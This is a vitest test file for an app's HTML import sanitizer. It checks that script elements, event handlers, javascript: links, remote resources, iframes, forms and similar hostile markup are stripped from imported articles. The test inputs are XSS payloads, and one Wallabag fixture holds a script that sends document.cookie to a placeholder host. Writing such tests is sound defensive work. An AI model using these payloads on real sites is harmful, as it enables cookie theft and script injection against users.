/**
 * The README's claim "imported content never runs script and never reaches the network", checked where the HTML
 * parser cannot hide a lax sanitizer: every hostile part sits in the middle of a body, after real content (a
 * `<script>` that comes first is dropped by the parser whatever the sanitizer allows, so such a test proves
 * nothing). Each case names one thing the policy must remove and the words that must survive it.
 */
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../main/library/import/sanitize-html';
import { articles, importBytes } from './helpers';

const CASES: { name: string; html: string; gone: RegExp }[] = [
  {
    name: 'a script element',
    html: '<p>before</p><script>alert(1)</script><p>after</p>',
    gone: /<script|alert/,
  },
  {
    name: 'an inline event handler',
    html: '<p>before</p><p onclick="alert(1)">after</p>',
    gone: /onclick|alert/,
  },
  {
    name: 'onerror on a local image',
    html: '<p>before</p><img src="resource:a.png" onerror="alert(1)"><p>after</p>',
    gone: /onerror|alert/,
  },
  {
    name: 'a javascript: link',
    html: '<p>before <a href="javascript:alert(1)">after</a></p>',
    gone: /javascript|alert/,
  },
  {
    name: 'a remote image',
    html: '<p>before</p><img src="https://tracker.example/p.gif"><p>after</p>',
    gone: /tracker/,
  },
  {
    name: 'a srcset',
    html: '<p>before</p><img src="resource:a.png" srcset="https://x.example/a 2x"><p>after</p>',
    gone: /srcset|x\.example/,
  },
  {
    name: 'an iframe',
    html: '<p>before</p><iframe src="https://x.example/"></iframe><p>after</p>',
    gone: /iframe|x\.example/,
  },
  {
    name: 'a style element',
    html: '<p>before</p><style>body{background:url(https://x.example/)}</style><p>after</p>',
    gone: /style|x\.example/,
  },
  {
    name: 'a style attribute',
    html: '<p>before</p><p style="background:url(https://x.example/)">after</p>',
    gone: /style|x\.example/,
  },
  {
    name: 'an svg with onload',
    html: '<p>before</p><svg onload="alert(1)"><circle r="1"/></svg><p>after</p>',
    gone: /svg|onload|alert/,
  },
  {
    name: 'an object',
    html: '<p>before</p><object data="https://x.example/f.swf"></object><p>after</p>',
    gone: /object|x\.example/,
  },
  {
    name: 'an embed',
    html: '<p>before</p><embed src="https://x.example/f.swf"><p>after</p>',
    gone: /embed|x\.example/,
  },
  {
    name: 'a form',
    html: '<p>before</p><form action="https://x.example/"><input name="q"></form><p>after</p>',
    gone: /form|input|x\.example/,
  },
  {
    name: 'a meta refresh',
    html: '<p>before</p><meta http-equiv="refresh" content="0;url=https://x.example/"><p>after</p>',
    gone: /meta|x\.example/,
  },
  {
    name: 'a base element',
    html: '<p>before</p><base href="https://x.example/"><p>after</p>',
    gone: /base|x\.example/,
  },
  {
    name: 'a link element',
    html: '<p>before</p><link rel="stylesheet" href="https://x.example/s.css"><p>after</p>',
    gone: /<link|x\.example/,
  },
  {
    name: 'a video poster',
    html: '<p>before</p><video poster="https://x.example/p.png"></video><p>after</p>',
    gone: /video|x\.example/,
  },
  {
    name: 'an id that could clobber the app',
    html: '<p>before</p><p id="root" name="app">after</p>',
    gone: /id=|name=/,
  },
  { name: 'a class', html: '<p>before</p><p class="reader-toolbar">after</p>', gone: /class=/ },
  { name: 'a data attribute', html: '<p>before</p><p data-x="1">after</p>', gone: /data-x/ },
  {
    name: 'an ARIA attribute',
    html: '<p>before</p><p role="button" aria-label="Delete">after</p>',
    gone: /role=|aria-/,
  },
  // resource: is allowed for images only: a link to a saved file leads nowhere in the reader.
  {
    name: 'a link into the saved files',
    html: '<p>before <a href="resource:a.png">after</a></p>',
    gone: /href/,
  },
  { name: 'a relative link', html: '<p>before <a href="/account/delete">after</a></p>', gone: /href/ },
  // The local-image and web-link tests hold from the start of the address, not anywhere in it.
  {
    name: 'a remote image whose address holds resource:',
    html: '<p>before</p><img src="https://x.example/resource:a.png"><p>after</p>',
    gone: /x\.example/,
  },
  {
    name: 'a link into the saved files whose address holds https:',
    html: '<p>before <a href="resource:a.png#https:">after</a></p>',
    gone: /href/,
  },
];

describe('the import sanitizer, with the hostile part after real content', () => {
  it.each(CASES.map((c) => [c.name, c]))('removes %s and keeps the words', (_name, c) => {
    const out = sanitizeHtml(c.html);
    expect(out).not.toMatch(c.gone);
    expect(out).toContain('before');
    expect(out).toContain('after');
  });

  it('keeps what is safe: an external link, a local image, a mail link', () => {
    const out = sanitizeHtml(
      '<p>x</p><p><a href="https://ok.example/a">web</a> <a href="mailto:a@b.example">mail</a></p><img src="resource:a.png" alt="A">',
    );
    expect(out).toBe(
      '<p>x</p><p><a href="https://ok.example/a">web</a> <a href="mailto:a@b.example">mail</a></p><img src="resource:a.png" alt="A">',
    );
  });
});

describe('a Wallabag entry keeping <script> and onerror in its stored HTML', () => {
  it('is stored without them, its text intact', async () => {
    const entry = {
      id: 7,
      title: 'Hostile entry',
      url: 'https://hostile.example/a',
      domain_name: 'hostile.example',
      reading_time: 1,
      content:
        '<p>First paragraph.</p><script>fetch("https://x.example/"+document.cookie)</script>' +
        '<p>Second <img src="resource:a.png" onerror="alert(1)"> paragraph.</p>',
      tags: [],
    };
    const [article] = articles(await importBytes('wallabag.json', JSON.stringify([entry])));
    expect(article?.importer).toBe('wallabag');
    expect(article!.article.html).not.toMatch(/script|fetch|onerror|alert/);
    expect(article!.article.html).toContain('<p>First paragraph.</p>');
    expect(article!.article.text).toContain('Second');
  });
});
